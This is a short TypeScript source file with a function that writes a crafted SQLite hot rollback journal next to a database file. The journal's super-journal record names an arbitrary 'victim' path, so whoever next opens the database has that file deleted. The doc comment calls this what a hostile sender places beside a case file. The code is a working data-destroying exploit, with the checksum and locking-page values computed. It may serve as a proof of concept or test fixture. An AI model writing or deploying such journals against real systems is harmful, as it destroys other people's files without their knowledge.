import { readFileSync, statSync, writeFileSync } from 'node:fs';

const JOURNAL_MAGIC = Buffer.from([0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7]);
const SECTOR_SIZE = 512;

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

/**
 * Writes `<file>-journal`: a hot rollback journal, as SQLite's pager writes
 * one, with no pages in it and a "super-journal" record naming `victim`.
 * SQLite replays such a journal at the first read of `file`, then deletes the
 * super-journal it names once no child journal points back at it, so any
 * file the reader may delete (absolute or relative to its working folder)
 * goes. This is what a hostile sender puts beside a case file.
 */
export function plantSuperJournal(file: string, victim: string): string {
  const header = readFileSync(file).subarray(0, 100);
  const pageSize = header.readUInt16BE(16) === 1 ? 65536 : header.readUInt16BE(16);
  const pages = Math.ceil(statSync(file).size / pageSize);
  const journalHeader = Buffer.alloc(SECTOR_SIZE);
  JOURNAL_MAGIC.copy(journalHeader, 0);
  journalHeader.writeUInt32BE(0, 8); // no page records
  journalHeader.writeUInt32BE(0x5eed5eed, 12); // checksum nonce
  journalHeader.writeUInt32BE(pages, 16); // the database's size before the "transaction": nothing is truncated
  journalHeader.writeUInt32BE(SECTOR_SIZE, 20);
  journalHeader.writeUInt32BE(pageSize, 24);
  const name = Buffer.from(victim, 'utf8');
  // The pager sums the name as C chars, which are signed here.
  const checksum = [...name].reduce((sum, byte) => (sum + (byte >= 128 ? byte - 256 : byte)) >>> 0, 0);
  const lockingPage = Math.floor(0x40000000 / pageSize) + 1;
  const superRecord = Buffer.concat([u32(lockingPage), name, u32(name.length), u32(checksum), JOURNAL_MAGIC]);
  const journal = `${file}-journal`;
  writeFileSync(journal, Buffer.concat([journalHeader, superRecord]));
  return journal;
}
